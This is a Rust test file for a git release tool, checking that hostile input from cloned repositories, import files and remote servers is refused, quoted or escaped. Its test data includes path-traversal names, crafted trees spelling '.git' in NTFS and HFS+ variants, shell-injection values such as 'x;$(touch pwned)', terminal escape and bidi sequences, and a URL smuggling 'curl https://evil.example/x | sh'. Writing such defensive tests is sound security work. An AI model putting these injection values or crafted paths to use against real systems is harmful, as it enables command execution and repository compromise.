//! Content from outside (issue #26): a cloned repository's `.git-release.toml`, crafted
//! trees, import files, fetched records. Each case is the hostile input itself, and
//! asserts that nothing outside the target changed and the refs are as they were.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Stdio;

use crate::support::{Env, Repo, edit_store, edit_store_json};

/// Every file and directory under `root` (relative paths), `.git` internals left out.
fn tree_of(root: &Path) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    let mut stack = vec![root.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.file_name().is_some_and(|n| n == ".git") {
                continue;
            }
            out.insert(
                path.strip_prefix(root)
                    .unwrap()
                    .to_string_lossy()
                    .into_owned(),
            );
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push(path);
            }
        }
    }
    out
}

/// Every ref and what it points at.
fn refs(repo: &Repo) -> String {
    repo.git(["for-each-ref", "--format=%(refname) %(objectname)"])
}

fn stdin_git(repo: &Repo, args: &[&str], input: &[u8]) -> String {
    let mut child = repo
        .git_command(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{args:?}");
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// A repository (`work/proj`, two levels below the home) with a release v1.0, whose
/// `.git-release.toml`, as a later pull brings it, names the project `name`.
fn repo_named<'e>(env: &'e Env, name: &str) -> Repo<'e> {
    let repo = env.repo("work/proj");
    repo.commit("first", &[("a.txt", "a\n")]);
    repo.release_ok(["create", "v1.0", "--ref", "HEAD"]);
    repo.commit(
        "hostile",
        &[(
            ".git-release.toml",
            &format!("[project]\nname = {}\n", toml_string(name)),
        )],
    );
    repo
}

fn toml_string(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

#[test]
fn a_committed_project_name_cannot_write_archives_outside_the_output_dir() {
    for name in [
        "../../../escaped",
        "/tmp/absolute-escape",
        "a/b",
        "..",
        "bidi\u{202e}gnp",
    ] {
        let env = Env::new();
        let repo = repo_named(&env, name);
        let before = tree_of(env.path());
        let refs_before = refs(&repo);
        for args in [
            &["archive", "v1.0", "--format", "all", "--output-dir", "dist"][..],
            &["download", "v1.0", "--sources", "-D", "dl"],
        ] {
            let err = repo.release_err(1, args);
            assert!(
                err.contains("invalid project name") && err.contains(".git-release.toml"),
                "{name:?} {args:?}: {err}"
            );
            assert!(err.contains("git config release.project"), "{err}");
        }
        assert_eq!(tree_of(env.path()), before, "{name:?}: files were written");
        assert!(!Path::new("/tmp/absolute-escape-v1.0.tar.gz").exists());
        assert_eq!(refs(&repo), refs_before);
    }
}

#[test]
fn a_project_name_set_in_git_config_overrides_a_hostile_file() {
    let env = Env::new();
    let repo = repo_named(&env, "../../../escaped");
    repo.git(["config", "release.project", "proj"]);
    repo.release_ok(["archive", "v1.0", "--format", "tar", "--output-dir", "dist"]);
    assert_eq!(
        std::fs::read_dir(repo.path().join("dist"))
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect::<Vec<_>>(),
        ["proj-v1.0.tar"]
    );
    let listing = repo.git(["archive", "--format=tar", "--prefix=proj-v1.0/", "v1.0"]);
    let ours = std::fs::read(repo.path().join("dist/proj-v1.0.tar")).unwrap();
    assert_eq!(ours, listing.into_bytes(), "byte-identical to git archive");
}

#[test]
fn a_prefix_leaving_the_archive_directory_is_refused() {
    let env = Env::new();
    let repo = repo_named(&env, "proj");
    for prefix in ["../x/", "/abs/", "a/../../b/", ".git/", "./"] {
        let err = repo.release_err(
            2,
            [
                "archive", "v1.0", "--format", "tar", "-o", "out.tar", "--prefix", prefix,
            ],
        );
        assert!(err.contains("--prefix"), "{prefix}: {err}");
        assert!(!repo.path().join("out.tar").exists());
    }
    // Inside is fine, verbatim as git takes it.
    repo.release_ok([
        "archive", "v1.0", "--format", "tar", "-o", "out.tar", "--prefix", "p//",
    ]);
    let git = repo.git_raw(["archive", "--format=tar", "--prefix=p//", "v1.0"]);
    assert_eq!(std::fs::read(repo.path().join("out.tar")).unwrap(), git);
}

/// A tree with `entry` (one `git mktree` line, `{blob}` for a file's and `{link}` for
/// a symlink's object) beside a plain file, committed and tagged `t`.
fn crafted<'e>(env: &'e Env, entry: &str) -> Repo<'e> {
    let repo = env.repo("crafted");
    let blob = stdin_git(&repo, &["hash-object", "-w", "--stdin"], b"hi\n");
    let link = stdin_git(&repo, &["hash-object", "-w", "--stdin"], b".git");
    let hooks = stdin_git(
        &repo,
        &["mktree"],
        format!("100755 blob {blob}\tpost-checkout\n").as_bytes(),
    );
    let line = entry
        .replace("{blob}", &blob)
        .replace("{link}", &link)
        .replace("{hooks}", &hooks);
    let tree = stdin_git(
        &repo,
        &["mktree"],
        format!("{line}\n100644 blob {blob}\tok\n").as_bytes(),
    );
    let commit = repo.git(["commit-tree", &tree, "-m", "crafted"]);
    repo.git(["tag", "t", commit.trim()]);
    repo
}

/// What `git archive` says about the tag: `Ok(bytes)` or `Err(stderr)`.
fn git_archive(repo: &Repo, protect_hfs: bool) -> Result<Vec<u8>, String> {
    let hfs = format!("core.protectHFS={protect_hfs}");
    let out = repo.git_output([
        "-c",
        &hfs,
        "archive",
        "--format=tar",
        "--prefix=crafted-t/",
        "t",
    ]);
    if out.status.success() {
        Ok(out.stdout)
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

#[test]
fn archives_refuse_the_paths_git_refuses_with_its_message() {
    // (tree entry, the path git names, refused by a Linux git with its defaults).
    let cases = [
        (
            "040000 tree {hooks}\t.git::$INDEX_ALLOCATION",
            ".git::$INDEX_ALLOCATION/post-checkout",
            true,
        ),
        ("040000 tree {hooks}\tGIT~1", "GIT~1/post-checkout", true),
        (
            "040000 tree {hooks}\t.git. . ",
            ".git. . /post-checkout",
            true,
        ),
        ("120000 blob {link}\tGITMOD~1", "GITMOD~1", true),
        ("120000 blob {link}\t.gitmodules.", ".gitmodules.", true),
        ("120000 blob {link}\tgi7eba~4", "gi7eba~4", true),
        ("100644 blob {blob}\t.GIT", ".GIT", true),
        ("100644 blob {blob}\ta\\.git", "a\\.git", true),
        ("040000 tree {hooks}\t..", "../post-checkout", true),
        // HFS+ spellings: refused as git refuses them with core.protectHFS (its default
        // on macOS), so an archive extracted on a Mac has no .git either.
        ("100644 blob {blob}\t.g\u{200c}it", ".g\u{200c}it", false),
        (
            "120000 blob {link}\t.git\u{200d}modules",
            ".git\u{200d}modules",
            false,
        ),
    ];
    for (entry, path, linux_git_refuses) in cases {
        let env = Env::new();
        let repo = crafted(&env, entry);
        let git_says = git_archive(&repo, !linux_git_refuses).unwrap_err();
        assert!(
            git_says.contains(&format!("invalid path '{path}'")),
            "{entry}: git says {git_says}"
        );
        if !linux_git_refuses {
            assert!(git_archive(&repo, false).is_ok(), "{entry}");
        }
        let refs_before = refs(&repo);
        let before = tree_of(env.path());
        let err = repo.release_err(
            1,
            ["archive", "t", "--format", "all", "--output-dir", "out"],
        );
        assert!(err.contains("invalid path"), "{entry}: {err}");
        let shown = format!("{path:?}");
        assert!(err.contains(&shown), "{entry}: names {shown}: {err}");
        let added: Vec<_> = tree_of(env.path()).difference(&before).cloned().collect();
        assert!(
            added.iter().all(|p| p.ends_with("out")),
            "{entry}: {added:?}"
        );
        assert!(
            std::fs::read_dir(repo.path().join("out"))
                .map(|d| d.count())
                .unwrap_or(0)
                == 0,
            "{entry}: nothing written"
        );
        assert_eq!(refs(&repo), refs_before);
    }
}

#[test]
fn paths_git_accepts_archive_byte_identically() {
    for entry in [
        "100644 blob {blob}\t.gitmodules.",
        "100644 blob {blob}\tgit~2",
        "120000 blob {link}\tgitmod~5",
        "100644 blob {blob}\ta\\b",
        "040000 tree {hooks}\t.github",
    ] {
        let env = Env::new();
        let repo = crafted(&env, entry);
        let git = git_archive(&repo, true).unwrap();
        repo.release_ok(["archive", "t", "--format", "tar", "-o", "ours.tar"]);
        assert_eq!(
            std::fs::read(repo.path().join("ours.tar")).unwrap(),
            git,
            "{entry}"
        );
    }
}

#[test]
fn a_refused_path_under_an_export_ignored_directory_still_fails_like_git() {
    let env = Env::new();
    let repo = crafted(&env, "040000 tree {hooks}\t.git::$INDEX_ALLOCATION");
    // Same tree plus a .gitattributes that export-ignores the directory.
    let attrs = stdin_git(
        &repo,
        &["hash-object", "-w", "--stdin"],
        b".git* export-ignore\n",
    );
    let listing = repo.git(["ls-tree", "t"]);
    let tree = stdin_git(
        &repo,
        &["mktree"],
        format!("{listing}100644 blob {attrs}\t.gitattributes\n").as_bytes(),
    );
    let commit = repo.git(["commit-tree", &tree, "-m", "ignored"]);
    repo.git(["tag", "-f", "t", commit.trim()]);
    assert!(
        git_archive(&repo, false)
            .unwrap_err()
            .contains("invalid path")
    );
    let err = repo.release_err(1, ["archive", "t", "--format", "tar", "-o", "x.tar"]);
    assert!(err.contains("invalid path"), "{err}");
    assert!(!repo.path().join("x.tar").exists());
}

#[test]
fn import_cannot_create_a_tag_spelt_like_a_ref() {
    let env = Env::new();
    let repo = env.repo("proj");
    let commit = repo.commit("first", &[("a.txt", "a\n")]);
    let refs_before = refs(&repo);
    let file = format!(
        r#"[{{"tag_name": "refs/heads/main", "name": "x", "created_at": "2024-01-01T00:00:00Z", "commit": {{"id": "{commit}"}}}}]"#
    );
    let out = repo
        .release_command()
        .args(["import", "-", "--create-tags-from-commit"])
        .write_stdin(file)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("cannot start with \"refs/\""), "{err}");
    assert!(!repo.ref_exists("refs/tags/refs/heads/main"));
    assert_eq!(refs(&repo), refs_before, "no tag and no notes ref");
}

/// `&lt;`, `&#x27;`, … back to text, as a browser shows them (for copying a command).
fn html_text(html: &str) -> String {
    let mut out = String::new();
    let mut rest = html;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        let end = rest[at..].find(';').map(|e| at + e).unwrap();
        let entity = &rest[at + 1..end];
        out.push(match entity {
            "amp" => '&',
            "lt" => '<',
            "gt" => '>',
            "quot" => '"',
            "apos" => '\'',
            _ => {
                let hex = entity
                    .strip_prefix("#x")
                    .or_else(|| entity.strip_prefix("#X"));
                let n = match hex {
                    Some(h) => u32::from_str_radix(h, 16).unwrap(),
                    None => entity.strip_prefix('#').unwrap().parse().unwrap(),
                };
                char::from_u32(n).unwrap()
            }
        });
        rest = &rest[end + 1..];
    }
    out.push_str(rest);
    out
}

#[test]
fn the_sites_copy_paste_command_quotes_a_fetched_evidence_path() {
    let env = Env::new();
    let repo = env.repo("proj");
    repo.commit("first", &[("a.txt", "a\n")]);
    repo.release_ok(["create", "v1.0", "--ref", "HEAD"]);
    // A record as a fetch from a hostile clone brings it: the snapshot's path is a
    // shell command.
    let hostile = "x;$(touch pwned)";
    let note = repo.git(["notes", "--ref=releases", "show", "v1.0^{commit}"]);
    let mut doc: serde_json::Value = serde_json::from_str(&note).unwrap();
    doc["releases"]["v1.0"]["evidences"][0]["filepath"] = hostile.into();
    let path = repo.path().join("note.json");
    std::fs::write(&path, serde_json::to_string_pretty(&doc).unwrap() + "\n").unwrap();
    repo.git([
        "notes",
        "--ref=releases",
        "add",
        "-f",
        "-F",
        "note.json",
        "v1.0^{commit}",
    ]);
    std::fs::remove_file(&path).unwrap();

    repo.release_ok(["site", "--output", "site"]);
    let page = std::fs::read_to_string(repo.path().join("site/releases/v1.0.html")).unwrap();
    let text = html_text(&page);
    let start = text.find("git fetch origin refs/notes/releases").unwrap();
    let end = start + text[start..].find("</code>").unwrap();
    let command = &text[start..end];
    assert!(
        command.contains("git cat-file blob 'refs/notes/releases:x;$(touch pwned)' | sha256sum"),
        "{command}"
    );
    // Pasted into a shell (without the fetch, which needs a remote): nothing runs.
    let check = command.lines().nth(1).unwrap();
    let out = std::process::Command::new("sh")
        .args(["-c", check])
        .current_dir(repo.path())
        .output()
        .unwrap();
    let _ = out;
    assert!(
        !repo.path().join("pwned").exists(),
        "the page's command ran code"
    );
}

/// The path of the note on `rev`'s commit in the notes tree.
fn note_path(repo: &Repo, rev: &str) -> String {
    let commit = repo.rev(&format!("{rev}^{{commit}}"));
    repo.git(["ls-tree", "-r", "--name-only", "refs/notes/releases"])
        .lines()
        .find(|p| p.replace('/', "") == commit)
        .unwrap()
        .to_owned()
}

const ESC: &str = "\x1b]0;owned\x07\x1b[2J";

/// No escape sequence, bell, carriage return or bidi override reaches the terminal.
#[track_caller]
fn assert_inert(bytes: &[u8], what: &str) {
    let text = String::from_utf8_lossy(bytes);
    for bad in [
        '\x1b', '\x07', '\r', '\u{202e}', '\u{2066}', '\u{200b}', '\u{9b}',
    ] {
        assert!(!text.contains(bad), "{what} printed {bad:?} raw:\n{text}");
    }
}

#[test]
fn records_from_elsewhere_are_printed_with_their_escapes_shown() {
    let env = Env::new();
    let repo = env.repo("proj");
    repo.commit("first", &[("a.txt", "a\n")]);
    repo.release_ok(["milestone", "create", "M1"]);
    repo.release_ok([
        "create",
        "v1.0",
        "--ref",
        "HEAD",
        "--milestone",
        "M1",
        "--link",
        "name=bin,url=https://e.com/bin",
    ]);
    let name = format!("evil{ESC} \u{202e}gnp.exe");
    let url = "https://e.com/x\ncurl https://evil.example/x | sh";
    let note = note_path(&repo, "v1.0");
    edit_store_json(&repo, &note, |doc| {
        let r = &mut doc["releases"]["v1.0"];
        r["name"] = name.clone().into();
        r["description"] = "fine\n\x1b[31mred\r\u{2066}hidden".into();
        r["author"]["name"] = format!("Mallory{ESC}").into();
        r["links"][0]["name"] = format!("bidi \u{202e}gnp.exe{ESC}").into();
        r["links"][0]["url"] = url.into();
        r["evidences"][0]["filepath"] = format!("evidence/x{ESC}.json").into();
    });
    edit_store_json(&repo, "milestones.json", |doc| {
        doc["milestones"][0]["title"] = format!("M1{ESC}\u{200b}").into();
        doc["milestones"][0]["description"] = "about\u{9b}31m".into();
    });
    let title = format!("M1{ESC}\u{200b}");

    for args in [
        &["view", "v1.0"][..],
        &["link", "list", "v1.0"],
        &["list"],
        &["milestone", "view", &title],
        &["milestone", "list"],
        &["verify", "v1.0"],
        &["evidence", "list", "v1.0"],
        &["download", "v1.0", "-D", "dl"],
    ] {
        let out = repo.release(args);
        assert!(!String::from_utf8_lossy(&out.stderr).contains("panicked"));
        assert_inert(&out.stdout, &format!("{args:?} stdout"));
        assert_inert(&out.stderr, &format!("{args:?} stderr"));
    }
    // The view shows what is there, escaped.
    let view = repo.release_ok(["view", "v1.0"]);
    assert!(
        view.contains("evil\\u{1b}]0;owned\\u{7}\\u{1b}[2J \\u{202e}gnp.exe"),
        "{view}"
    );
    assert!(
        view.contains("fine\n\\u{1b}[31mred\\r\\u{2066}hidden"),
        "{view}"
    );

    // One URL a line: the `\n` in a URL does not make a second, runnable line.
    let urls = repo.release_ok(["download", "v1.0", "--url-only"]);
    assert_eq!(urls, "https://e.com/x\\ncurl https://evil.example/x | sh\n");

    // --json stays exact.
    let json: serde_json::Value =
        serde_json::from_str(&repo.release_ok(["view", "v1.0", "--json"])).unwrap();
    assert_eq!(json["name"], name.as_str());
    assert_eq!(json["assets"]["links"][0]["url"], url);
}

#[test]
fn evidence_show_escapes_on_a_terminal_and_is_exact_in_a_pipe() {
    let env = Env::new();
    let repo = env.repo("proj");
    repo.commit("first", &[("a.txt", "a\n")]);
    repo.release_ok(["create", "v1.0", "--ref", "HEAD"]);
    // A snapshot as someone else's clone may hold it: its bytes are not ours.
    let listed: serde_json::Value =
        serde_json::from_str(&repo.release_ok(["evidence", "list", "v1.0", "--json"])).unwrap();
    let filepath = listed[0]["filepath"].as_str().unwrap().to_owned();
    let hostile = format!("{{\"x\": \"{ESC}\u{202e}\"}}\n");
    edit_store(&repo, &filepath, Some(hostile.as_bytes()));

    let piped = repo.release(["evidence", "show", "v1.0"]);
    assert_eq!(piped.stdout, hostile.as_bytes(), "exact bytes in a pipe");

    // Under a pseudo-terminal (script(1)), the same command shows them escaped.
    let binary = assert_cmd::cargo::cargo_bin!("git-release");
    let mut cmd = std::process::Command::new("script");
    env.apply(&mut cmd);
    let out = cmd
        .current_dir(repo.path())
        .args([
            "-qec",
            &format!("{} evidence show v1.0", binary.display()),
            "/dev/null",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let shown = String::from_utf8_lossy(&out.stdout).replace("\r\n", "\n");
    assert_inert(shown.as_bytes(), "evidence show on a terminal");
    assert!(shown.contains("\\u{1b}]0;owned"), "{shown}");
}

#[test]
fn link_names_that_reorder_themselves_are_refused_on_input() {
    let env = Env::new();
    let repo = env.repo("proj");
    let commit = repo.commit("first", &[("a.txt", "a\n")]);
    repo.release_ok(["create", "v1.0", "--ref", "HEAD"]);
    let before = refs(&repo);
    let err = repo.release_err(
        1,
        [
            "link",
            "add",
            "v1.0",
            "--name",
            "bidi \u{202e}gnp.exe",
            "--url",
            "https://e.com/a",
        ],
    );
    assert!(
        err.contains("bidirectional") && err.contains("\\u{202e}"),
        "{err}"
    );
    assert!(!err.contains('\u{202e}'), "{err}");
    let err = repo.release_err(
        1,
        [
            "link",
            "add",
            "v1.0",
            "--name",
            "ok",
            "--url",
            "https://e.com/\u{2066}a",
        ],
    );
    assert!(err.contains("\\u{2066}"), "{err}");
    // An import file is input too.
    let file = format!(
        r#"[{{"tag_name": "v2.0", "created_at": "2024-01-01T00:00:00Z", "commit": {{"id": "{commit}"}},
            "assets": {{"links": [{{"name": "x\u202egnp.exe", "url": "https://e.com/b"}}]}}}}]"#
    );
    let out = repo
        .release_command()
        .args(["import", "-", "--create-tags-from-commit"])
        .write_stdin(file)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(refs(&repo), before, "nothing written");
    // Emoji sequences (joined by U+200D, a format character) stay accepted as names.
    repo.release_ok([
        "link",
        "add",
        "v1.0",
        "--name",
        "family 👨\u{200d}👩",
        "--url",
        "https://e.com/c",
    ]);
}

/// A local HTTP server with hostile behaviours, one per path: `/stall` sends headers
/// and ten bytes, then nothing; `/drip` a byte a second; `/endless` bytes without end
/// and without a length; `/announce` a Content-Length of a gigabyte. It counts what
/// it managed to send.
struct Hostile {
    base: String,
    sent: std::sync::Arc<std::sync::atomic::AtomicU64>,
}

impl Hostile {
    fn start() -> Hostile {
        use std::io::{BufRead, BufReader, Write};
        use std::sync::atomic::Ordering;
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let sent = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
        let counter = sent.clone();
        // Each connection on its own thread, which ends with the test process.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let counter = counter.clone();
                std::thread::spawn(move || {
                    let mut stream = stream;
                    let mut reader = BufReader::new(stream.try_clone().unwrap());
                    let mut request = String::new();
                    let _ = reader.read_line(&mut request);
                    loop {
                        let mut header = String::new();
                        if reader.read_line(&mut header).unwrap_or(0) == 0 || header == "\r\n" {
                            break;
                        }
                    }
                    let path = request.split(' ').nth(1).unwrap_or("/").to_owned();
                    let second = std::time::Duration::from_secs(1);
                    let result: std::io::Result<()> = (|| match path.as_str() {
                        "/stall" => {
                            stream.write_all(
                                b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n0123456789",
                            )?;
                            stream.flush()?;
                            std::thread::sleep(std::time::Duration::from_secs(600));
                            Ok(())
                        }
                        "/drip" => {
                            stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n")?;
                            for _ in 0..1000 {
                                stream.write_all(b"x")?;
                                stream.flush()?;
                                std::thread::sleep(second);
                            }
                            Ok(())
                        }
                        "/endless" => {
                            stream.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n")?;
                            let chunk = vec![b'x'; 64 * 1024];
                            // At most a gigabyte, so a broken client cannot fill the disk.
                            for _ in 0..16 * 1024 {
                                stream.write_all(&chunk)?;
                                counter.fetch_add(chunk.len() as u64, Ordering::SeqCst);
                            }
                            Ok(())
                        }
                        "/announce" => {
                            stream.write_all(
                                b"HTTP/1.1 200 OK\r\nContent-Length: 1073741824\r\n\r\nxx",
                            )?;
                            std::thread::sleep(std::time::Duration::from_secs(600));
                            Ok(())
                        }
                        _ => {
                            stream.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
                        }
                    })();
                    let _ = result;
                });
            }
        });
        Hostile { base, sent }
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }
}

/// A repository with a release v1.0 whose link `name` points at `path` on `server`,
/// and short download bounds (2 s windows).
fn release_with_link<'e>(env: &'e Env, server: &Hostile, path: &str, extra: &[&str]) -> Repo<'e> {
    env.set("NO_PROXY", "127.0.0.1");
    env.set("no_proxy", "127.0.0.1");
    let repo = env.repo("proj");
    repo.commit("first", &[("a.txt", "a\n")]);
    repo.release_ok(["create", "v1.0", "--ref", "HEAD"]);
    let mut args = vec![
        "link".to_owned(),
        "add".into(),
        "v1.0".into(),
        "--name".into(),
        "asset.bin".into(),
        "--url".into(),
        server.url(path),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    repo.release_ok(&args);
    repo.git(["config", "release.downloadTimeout", "2"]);
    repo
}

fn part_files(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.ends_with(".part"))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn a_server_that_stalls_or_drips_fails_the_download_within_the_window() {
    let server = Hostile::start();
    for path in ["/stall", "/drip"] {
        let env = Env::new();
        let repo = release_with_link(&env, &server, path, &[]);
        let refs_before = refs(&repo);
        let err = repo.release_err(1, ["download", "v1.0", "-D", "dl"]);
        assert!(err.contains("below the minimum"), "{path}: {err}");
        assert!(!repo.path().join("dl/asset.bin").exists());
        assert!(part_files(&repo.path().join("dl")).is_empty(), "{path}");
        assert_eq!(refs(&repo), refs_before);
    }
}

#[test]
fn a_body_past_the_recorded_size_is_stopped_at_once() {
    let server = Hostile::start();
    let env = Env::new();
    // `link add --file` records the size (11 bytes) beside the SHA-256.
    std::fs::write(env.path().join("local.bin"), "eleven byte").unwrap();
    let repo = release_with_link(&env, &server, "/endless", &["--file", "../local.bin"]);
    let err = repo.release_err(1, ["download", "v1.0", "-D", "dl"]);
    assert!(err.contains("more than the 11 bytes recorded"), "{err}");
    assert!(part_files(&repo.path().join("dl")).is_empty());
    assert!(!repo.path().join("dl/asset.bin").exists());
    // Stopped at once: what the server could push before the client hung up is a
    // socket buffer or two, not the gigabyte it meant to send.
    std::thread::sleep(std::time::Duration::from_millis(500));
    let sent = server.sent.load(std::sync::atomic::Ordering::SeqCst);
    assert!(sent < 64 << 20, "the server sent {sent} bytes");
}

#[test]
fn links_without_a_recorded_size_are_bounded_by_the_configured_maximum() {
    let server = Hostile::start();
    let env = Env::new();
    let repo = release_with_link(&env, &server, "/endless", &[]);
    repo.git(["config", "release.downloadMaxSize", "1m"]);
    let err = repo.release_err(1, ["download", "v1.0", "-D", "dl"]);
    assert!(
        err.contains("more than 1048576 bytes") && err.contains("release.downloadMaxSize"),
        "{err}"
    );
    assert!(part_files(&repo.path().join("dl")).is_empty());
    // An announced length past the bound fails before the body is read.
    let env = Env::new();
    let repo = release_with_link(&env, &server, "/announce", &[]);
    repo.git(["config", "release.downloadMaxSize", "1m"]);
    let err = repo.release_err(1, ["download", "v1.0", "-D", "dl"]);
    assert!(err.contains("announces 1073741824 bytes"), "{err}");
}

#[test]
fn partial_files_are_removed_when_download_is_told_to_stop() {
    let server = Hostile::start();
    for signal in ["TERM", "INT", "HUP"] {
        let env = Env::new();
        let repo = release_with_link(&env, &server, "/stall", &[]);
        // Long windows: the download waits until the signal comes.
        repo.git(["config", "release.downloadTimeout", "600"]);
        let binary = assert_cmd::cargo::cargo_bin!("git-release");
        let mut cmd = std::process::Command::new(binary);
        env.apply(&mut cmd);
        let mut child = cmd
            .current_dir(repo.path())
            .args(["download", "v1.0", "-D", "dl"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let dl = repo.path().join("dl");
        let started = std::time::Instant::now();
        while part_files(&dl).is_empty() {
            assert!(started.elapsed().as_secs() < 60, "no .part file appeared");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let status = std::process::Command::new("kill")
            .args([&format!("-{signal}"), &child.id().to_string()])
            .status()
            .unwrap();
        assert!(status.success());
        let exit = child.wait().unwrap();
        assert!(!exit.success(), "{signal}: {exit:?}");
        assert!(
            part_files(&dl).is_empty(),
            "{signal}: {:?}",
            part_files(&dl)
        );
    }
}

#[test]
fn export_subst_works_for_any_number_of_files_under_long_paths() {
    let env = Env::new();
    let repo = env.repo("proj");
    // 1,200 export-subst files under a 1,852-character directory: listed on a command
    // line, they would be over 2 MB of arguments ("Argument list too long").
    let dir: String = (0..8)
        .map(|i| format!("{i}{}", "d".repeat(230)))
        .collect::<Vec<_>>()
        .join("/");
    assert_eq!(dir.len(), 1_855);
    let mut stream = String::from(
        "commit refs/heads/main\ncommitter C <c@example.com> 1710135045 -0700\ndata 5\nmany\n",
    );
    stream.push_str("M 100644 inline .gitattributes\ndata 19\n*.txt export-subst\n\n");
    for i in 0..1_200 {
        let body = format!("file {i}: $Format:%H %an$\n");
        stream.push_str(&format!(
            "M 100644 inline {dir}/f{i:04}.txt\ndata {}\n{body}\n",
            body.len()
        ));
    }
    stdin_git(&repo, &["fast-import", "--quiet"], stream.as_bytes());
    repo.git(["tag", "t", "main"]);
    for format in ["tar", "zip"] {
        let out = format!("ours.{format}");
        repo.release_ok(["archive", "t", "--format", format, "-o", &out]);
        let git = repo.git_raw([
            "archive",
            &format!("--format={format}"),
            "--prefix=proj-t/",
            "t",
        ]);
        let ours = std::fs::read(repo.path().join(&out)).unwrap();
        assert!(ours == git, "{format}: not byte-identical to git archive");
    }
}

/// The commands hints suggest (`hint: use `git release update …``) are pasted into
/// shells: the names in them are quoted.
#[test]
fn commands_suggested_in_hints_quote_the_names_in_them() {
    let env = Env::new();
    let repo = env.repo("proj");
    repo.commit("first", &[("a.txt", "a\n")]);
    // git allows `;` and `$(` in tag names; milestone titles are free text.
    let tag = "v1;touch${IFS}pwned-tag";
    repo.release_ok(["create", tag, "--ref", "HEAD"]);
    let title = "M $(touch pwned-title)";
    repo.release_ok(["milestone", "create", title]);
    let hints = [
        repo.release_err(1, ["create", tag]),
        repo.release_err(1, ["milestone", "create", title]),
        repo.release_err(1, ["link", "delete", tag, "nope"]),
    ];
    for hint in &hints {
        let line = hint.lines().find(|l| l.starts_with("hint:")).unwrap();
        for command in line.split('`').skip(1).step_by(2) {
            let out = std::process::Command::new("sh")
                .args(["-c", command])
                .current_dir(repo.path())
                .env("PATH", std::env::var_os("PATH").unwrap())
                .output()
                .unwrap();
            let _ = out;
        }
        assert!(hint.contains('\''), "{hint}");
    }
    for pwned in ["pwned-tag", "pwned-title"] {
        assert!(
            !repo.path().join(pwned).exists(),
            "a hint's command ran {pwned}: {hints:?}"
        );
    }
}
